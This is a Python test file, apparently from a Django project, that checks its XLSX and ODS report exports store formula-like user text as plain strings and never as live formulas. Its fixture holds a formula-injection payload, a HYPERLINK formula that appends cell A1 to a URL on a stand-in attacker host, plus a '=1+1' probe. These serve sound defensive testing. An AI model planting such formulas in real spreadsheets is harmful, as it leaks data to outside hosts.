"""Formula injection: an order's object or reference written by a user never becomes a live
formula in the report's XLSX or ODS."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from delegations.execution import mouvements as ecriture
from delegations.rapports import exports
from delegations.rapports.donnees import construire

pytestmark = pytest.mark.django_db
PIEGE = '=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")'


@pytest.fixture
def rapport_piege(convention: Any) -> Any:
    ecriture.mettre_a_disposition(
        convention,
        annee=2024,
        ae=Decimal("1000"),
        cp=Decimal("1000"),
        date=dt.date(2024, 2, 1),
        reference="MAD",
    )
    ecriture.engager(
        convention, montant=Decimal("10"), reference="=1+1", date=dt.date(2024, 5, 6), objet=PIEGE
    )
    return construire(convention, "mensuel", dt.date(2024, 5, 1), aujourd_hui=dt.date(2024, 6, 10))


def test_xlsx_writes_formula_like_texts_as_string_cells(rapport_piege: Any) -> None:
    classeur = load_workbook(io.BytesIO(exports.xlsx(rapport_piege)))
    cellules = [c for feuille in classeur for rang in feuille.iter_rows() for c in rang]
    assert [c for c in cellules if c.data_type == "f"] == []
    textes = {c.value for c in cellules if c.data_type == "s"}
    assert PIEGE in textes
    assert "=1+1" in textes


def test_ods_writes_formula_like_texts_as_string_cells(rapport_piege: Any) -> None:
    with zipfile.ZipFile(io.BytesIO(exports.ods(rapport_piege))) as zf:
        contenu = zf.read("content.xml").decode()
    assert "table:formula" not in contenu
    assert 'office:value-type="string"><text:p>=1+1</text:p>' in contenu
